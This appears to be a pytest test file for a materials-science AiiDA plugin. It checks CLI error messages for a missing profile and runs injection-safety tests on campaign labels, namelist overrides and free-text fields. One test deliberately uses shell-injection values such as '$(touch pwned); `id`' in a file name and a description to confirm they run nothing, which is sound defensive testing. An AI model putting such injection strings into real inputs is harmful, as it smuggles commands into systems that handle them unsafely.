@pytest.mark.parametrize(
    ('argv', 'default'),
    [
        (['rank'], None),
        (['isotope', '5', '--substitute', 'H=D'], None),
        (['setup', 'codes', 'localhost'], None),
        (['campaign', 'status'], 'docs'),
    ],
    ids=['rank', 'isotope', 'setup-codes', 'default-profile-missing'],
)
def test_no_profile_at_all(tmp_path, argv, default):
    """An AIIDA_PATH without any profile: one line saying to run ``aiida-enatom setup`` (a fresh interpreter).

    ``default``: the configuration names a default profile that does not exist (an empty ``AIIDA_PATH`` falls back
    to ``~/.aiida``, which may hold such a configuration).
    """
    if default is not None:
        (tmp_path / '.aiida').mkdir()
        config = {
            'CONFIG_VERSION': {'CURRENT': 10, 'OLDEST_COMPATIBLE': 10},
            'profiles': {},
            'default_profile': default,
        }
        (tmp_path / '.aiida' / 'config.json').write_text(json.dumps(config))
    env = {**os.environ, 'AIIDA_PATH': str(tmp_path)}
    command = [sys.executable, '-c', 'from aiida_enatom.cli import cmd_root; cmd_root()', *argv]
    result = subprocess.run(command, capture_output=True, text=True, env=env, check=False, timeout=300)
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert 'Traceback' not in output and 'CONFIG_VERSION' not in output, output
    lines = [line for line in output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith('Critical:'), output
    assert 'no AiiDA profile' in lines[0] and '`aiida-enatom setup`' in lines[0], output
    if default is not None:
        assert f"default profile '{default}'" in lines[0] and 'does not exist' in lines[0], output


_PROTOTYPE_CANDIDATE = {'prototype': 'H3S', 'pressures': [200]}


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(min_codepoint=1, max_codepoint=0x2FF), min_size=1, max_size=40))
@example('LaH10-Fm3m_v2.1')
@example('screen/2026.11')
def test_accepted_labels_and_names_need_no_shell_quoting(text):
    """Any label or campaign name the validator accepts is inert in a shell: ``shlex.quote`` leaves it unchanged."""
    from aiida_enatom.exceptions import InputValidationError
    from aiida_enatom.io.campaign import campaign_from_dict

    for data in (
        {'name': 'c', 'candidates': [{'label': text, **_PROTOTYPE_CANDIDATE}]},
        {'name': text, 'candidates': [{'label': 'H3S', **_PROTOTYPE_CANDIDATE}]},
    ):
        try:
            campaign = campaign_from_dict(data)
        except InputValidationError as exception:
            assert '\n' not in str(exception)  # refused on one line
            continue
        for accepted in (campaign.name, campaign.candidates[0].label):
            assert shlex.quote(accepted) == accepted
            assert not accepted.startswith(('-', '.')) and '..' not in accepted.split('/')


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(min_codepoint=1, max_codepoint=0x2FF), max_size=40))
@example('smearing /, x=1 = 2')
@example('')
def test_accepted_override_strings_stay_one_quoted_namelist_value(text):
    """An override string the validator accepts becomes exactly one ``key = 'value'`` line of a QE namelist."""
    from aiida_quantumespresso.utils.convert import convert_input_to_namelist_entry

    from aiida_enatom.exceptions import InputValidationError
    from aiida_enatom.io.campaign import campaign_from_dict

    overrides = {'relax_base': {'pw': {'parameters': {'SYSTEM': {'occupations': text}}}}}
    try:
        campaign = campaign_from_dict(
            {'name': 'c', 'overrides': overrides, 'candidates': [{'label': 'H3S', **_PROTOTYPE_CANDIDATE}]}
        )
    except InputValidationError as exception:
        assert '\n' not in str(exception)
        return
    value = campaign.effective_overrides('H3S')['relax_base']['pw']['parameters']['SYSTEM']['occupations']
    entry = convert_input_to_namelist_entry('occupations', value)
    assert entry == f"  occupations = '{text}'\n"
    assert entry.count("'") == 2 and entry.count('\n') == 1 and '&' not in entry


def test_accepted_free_text_never_leaves_the_validator(tmp_path):
    """Shell text in the description and in a structure file's name is accepted as data and runs nothing."""
    structure = tmp_path / 'H3S $(touch pwned); `id`.POSCAR'
    structure.write_text(POSCAR_H3S)
    campaign_file = tmp_path / 'free.yaml'
    campaign_file.write_text(
        _campaign(
            description='$(touch pwned); `id` | cat > x', candidate={'prototype': None, 'structure': structure.name}
        )
    )
    result = invoke(['campaign', 'validate', str(campaign_file)])
    assert result.exit_code == 0, result.output
    assert not (tmp_path / 'pwned').exists() and not pathlib.Path('pwned').exists()
    from aiida_enatom.io.campaign import load_campaign

    campaign = load_campaign(campaign_file)
    assert campaign.candidates[0].structure == structure.resolve()
    assert campaign.candidates[0].formula == 'H3S'
